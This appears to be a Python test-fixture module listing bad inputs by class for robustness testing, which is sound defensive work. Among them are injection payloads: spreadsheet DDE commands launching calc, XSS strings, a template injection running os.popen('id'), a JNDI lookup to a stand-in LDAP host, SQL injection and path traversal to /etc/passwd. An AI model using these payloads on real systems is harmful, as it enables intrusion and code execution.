"""Bad inputs by class, each as a person, a paste or an attacker may send it; every bug found adds one."""
# ruff: noqa: E501 - lines of samples, as many to a line as there is room

from __future__ import annotations

FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://a.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\ufeff=1+1", "=", "\u200b=1+1",
    "'=1+1", "=\"a\"&CHAR(10)", "DDE (\"cmd\";\"/C calc\";\"x\")", "%0A=1",
)  # fmt: skip
MARKUP = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</textarea><b>x</b>",
    "<a href=\"javascript:alert(1)\">x</a>", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "<!-- x -->",
    "<iframe srcdoc='<b>'>", "&lt;script&gt;", "&amp;amp;", "&#60;b&#62;", "<![CDATA[x]]>", "<style>*{display:none}</style>",
    "<math><mtext></mtext></math>", "javascript:alert(1)", "<details open ontoggle=alert(1)>", "<b>bold</b> and <i>slant</i>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{% for x in y %}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{organization}",
    "{who}", "{see: people}", "{blank: x}", "{0}", "{0.__class__}", "%s %d %(x)s", "${x}", "${jndi:ldap://a.example/x}",
    "$(id)", "`id`", "#{7*7}", "{# note #}", "{", "}}{{", "{{r x }}",
)  # fmt: skip
CONTROLS = (
    "a\x00b", "a\x01b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1bb", "a\x1fb", "a\x7fb", "a\x80b", "a\x85b", "a\x9fb",
    "a\ud800b", "a\udfffb", "\ud83d", "a\udc00\ud800b", "a\ufffeb", "a\uffffb", "a\ufdd0b", "a\U0001fffeb", "a]]>b", "a&#0;b",
    "a&#x1F;b", "_x0041_", "_x000D_", "a\u2028b", "a\u2029b",
)  # fmt: skip
UNICODE = (
    "e\u0301", "\u00e9", "\u202eabc", "\u2066abc", "\u200fabc", "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "Z̴̧̛a̷͘͜l̵̕g̸̛o̷", "العربية", "עברית", "हिन्दी", "ภาษาไทย",
    "𝕬𝖇𝖈", "𠜎𠜱", "İstanbul ıI", "ß ẞ", "ﬁ", "Å Å", "Ω Ω", "한글", "日本語", "\u00a0x\u00a0", "a\u00adb", "a\u200db", "🇺🇸🇲🇽", "\u0301x",
)  # fmt: skip
LOOKS_LIKE = (
    "NULL", "null", "None", "nan", "NaN", "NA", "N/A", "<NA>", "NaT", "007", "1e999", "1,5", "1.0", "true", "TRUE", "no",
    "'; DROP TABLE answers; --", "\" OR 1=1 --", "2026-01-15", "1/2", "-0", "inf", "0x10", "12:30", "\\N", "#N/A", "#REF!",
)  # fmt: skip
SHAPES = (
    "a,b", "a;b", "a\tb", "a\nb", "a\r\nb", "a\rb", "\"a\"", "a\"b", "\"\"", "a,\"b\nc\"", "a|b", ",", "\\", "a\\nb",
)  # fmt: skip
NAMES = (
    "../../etc/passwd", "..\\..\\boot.ini", "/etc/passwd", "C:\\x", "CON", "nul", "AUX.txt", "COM1", "LPT1", "a.", "a ",
    " a", ".", "..", "...", "-rf", "--help", ".hidden", "~", "~root", "a/b", "a\\b", "a:b", "a*b?", "a<b>c|d", "a\nb",
    "$HOME", "%PATH%", "Café", "Cafe\u0301", "CAFÉ", "a" * 200, "é" * 130, "🏠" * 60, "x.docx", "O'Brien & Söhne, Inc.",
)  # fmt: skip
SIZES = (
    "x", " x ", "x" * 255, "x" * 5_000, "word " * 3_000, "x" * 19_999, "x" * 20_000, "🏠" * 19_000, "line\n" * 3_000,
    "(" * 10_000, "[" * 10_000,
)  # fmt: skip
TOO_LONG = ("x" * 20_001, "x" * 32_768, "x" * 65_536, "x" * 1_000_000, "word\n" * 200_000)
NOTHING = ("", " ", "\t", "\n\n", "\u3000", "\u00a0")

CORPUS = {
    "formula": FORMULAS,
    "markup": MARKUP,
    "template": TEMPLATES,
    "control": CONTROLS,
    "unicode": UNICODE,
    "looks_like": LOOKS_LIKE,
    "shape": SHAPES,
    "name": NAMES,
    "size": SIZES,
}
"""Texts that somebody may well write; each is kept, shown, and comes home in Word."""

EVERY = tuple(text for texts in CORPUS.values() for text in texts)

JSON = (
    True, False, 0, 1, -1, 1.5, float("nan"), float("inf"), 10**5000, [None], [[]], [{}], {"other": None}, {"other": []},
    {"other": ""}, {"name": ["a"]}, {"name": 5}, {1: 2}, [["a"]], [{"other": {"other": "a"}}], {"value": "a"}, [1, 2],
    "2026-13-45", "20260115", "2026-W03-4", "yesterday", ("yes",), {"yes": True},
)  # fmt: skip
"""Values of the wrong shape; each is refused in a sentence or taken, never more."""
